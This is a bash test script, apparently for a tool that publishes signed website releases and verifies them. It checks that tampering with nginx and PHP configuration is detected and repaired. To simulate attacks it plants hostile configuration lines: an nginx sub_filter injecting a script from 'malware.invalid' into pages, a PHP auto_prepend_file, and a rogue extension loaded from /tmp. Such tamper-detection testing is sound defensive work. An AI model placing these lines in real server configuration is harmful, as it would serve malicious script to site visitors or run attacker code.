#!/bin/bash
# The web server's and the language's configuration: a site can be tampered with whose docroot is untouched.
. "$(dirname "$0")/lib.sh"
use attacks
need_root

make_site "$tmp/src"
mkdir -p "$tmp/nginx/conf.d" "$tmp/nginx/snippets" "$tmp/php/conf.d"
echo 'server { listen 80; root /var/www/site; index index.html index.php; }' >"$tmp/nginx/conf.d/site.conf"
echo 'expires 1h;' >"$tmp/nginx/snippets/expires.conf"
echo 'expose_php=0' >"$tmp/php/php.ini"
echo 'opcache.enable=1' >"$tmp/php/conf.d/10-opcache.ini"
make_keys "$tmp/keys"
us publish "$tmp/src" --repo "$repo" --key "$key" --site example --root nginx="$tmp/nginx" --root php="$tmp/php" ||
        { fail 'publish with three roots' && output_diag; }
nginx=$tmp/etc/nginx php=$tmp/etc/php
mkdir -p "${dest%/*}" "$tmp/etc"
roots=(--root nginx="$nginx" --root php="$php")
status_is 0 'first pull of three roots' us pull "$dest" --repo "$repo" --pub "$pub" "${roots[@]}" --json

equal()
{
        is "$1: docroot exact" "$(snapshot "$dest" | diff <(snapshot "$tmp/src") -)" ''
        is "$1: nginx exact" "$(snapshot "$nginx" | diff <(snapshot "$tmp/nginx") -)" ''
        is "$1: php exact" "$(snapshot "$php" | diff <(snapshot "$tmp/php") -)" ''
}
equal 'first pull'
status_is 0 'first pull: genuine' us verify "$dest" --pub "$pub" --json

# The roots were remembered: neither command names them again.
heals()
{
        local name=$1 path=$2 kind=$3
        status_is 1 "$name: verify" us verify "$dest" --pub "$pub" --json
        differs "$name: named" "$path" "$kind"
        status_is 1 "$name: pull" us pull "$dest" --repo "$repo" --pub "$pub" --json
        differs "$name: named by pull" "$path" "$kind" .before
        ok "$name: evidence" grep -rqF "$planted" "$(json .evidence)"
        status_is 0 "$name: genuine" us verify "$dest" --pub "$pub" --json
        equal "$name"
        status_is 0 "$name: second pull" us pull "$dest" --repo "$repo" --pub "$pub" --json
}

sed -i "1s|^|sub_filter '</body>' '<script src=//malware.invalid/x.js>'; # $planted\n|" "$nginx/conf.d/site.conf"
heals 'sub_filter in a server' conf.d/site.conf content

echo "add_header X-Planted $planted;" >"$nginx/conf.d/00.conf"
heals 'a new file that is included' conf.d/00.conf extra

echo "auto_prepend_file=/tmp/x.php ; $planted" >>"$php/php.ini"
heals 'auto_prepend_file' php.ini content

echo "extension=/tmp/x.so ; $planted" >"$php/conf.d/99-x.ini"
heals 'a new extension' conf.d/99-x.ini extra

mv "$nginx/conf.d" "$nginx/conf.real" && ln -s conf.real "$nginx/conf.d" && echo "# $planted" >>"$nginx/conf.real/site.conf"
heals 'a folder of the configuration is a symlink' conf.d type

# Two at once, and the docroot: all three in one pull.
echo "$planted" >"$dest/index.html"
echo "# $planted" >>"$nginx/snippets/expires.conf"
echo "; $planted" >>"$php/php.ini"
status_is 1 'all three: verify' us verify "$dest" --pub "$pub" --json
json_is 'all three: three differences' '.differences | length' 3
json_is 'all three: each says its root' '[.differences[] | .root] | sort' '["docroot","nginx","php"]'
heals 'all three' index.html extra

# A root that is not where it was.
rm -r "$php"
us verify "$dest" --pub "$pub" --json
ok 'a root that is gone: not genuine' test "$status" -eq 1 -o "$status" -eq 3
us pull "$dest" --repo "$repo" --pub "$pub" --json
ok 'a root that is gone: pull' test "$status" -le 1
equal 'a root that is gone'

# A release of fewer roots must not leave the old configuration behind unguarded without a word.
us publish "$tmp/src" --repo "$repo" --key "$key"
us pull "$dest" --repo "$repo" --pub "$pub" --json
ok 'a release without these roots: refused or said' test "$status" -eq 4 -o -n "$(errors)"

done_testing
